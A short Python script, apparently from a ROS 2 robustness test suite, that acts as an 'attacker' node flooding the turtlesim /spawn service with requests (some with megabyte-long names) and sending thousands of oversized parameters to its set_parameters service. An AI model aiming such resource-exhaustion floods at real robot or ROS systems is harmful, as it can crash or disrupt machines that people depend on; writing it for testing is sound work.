"""Spawns without end, with names of a megabyte, and sets thousands of parameters."""

import rclpy
from rcl_interfaces.msg import Parameter, ParameterValue
from rcl_interfaces.srv import SetParameters
from tools import attempt
from turtlesim.srv import Spawn

rclpy.init()
node = rclpy.create_node("attacker")
spawn = node.create_client(Spawn, "/spawn")
spawn.wait_for_service(timeout_sec=1.0)
for number in range(120):
    with attempt():
        spawn.call_async(Spawn.Request(x=1.0 + number / 50, y=1.0, theta=0.0, name=""))
    if number % 20 == 0:
        with attempt():
            spawn.call_async(Spawn.Request(x=1.0, y=1.0, theta=0.0, name="n" * (1 << 20)))
client = node.create_client(SetParameters, "/turtlesim/set_parameters")
with attempt():
    value = ParameterValue(type=4, string_value="v" * 1000)
    many = [Parameter(name=f"p{n}", value=value) for n in range(2000)]
    client.call_async(SetParameters.Request(parameters=many))
for _ in range(5):
    rclpy.spin_once(node, timeout_sec=0.2)
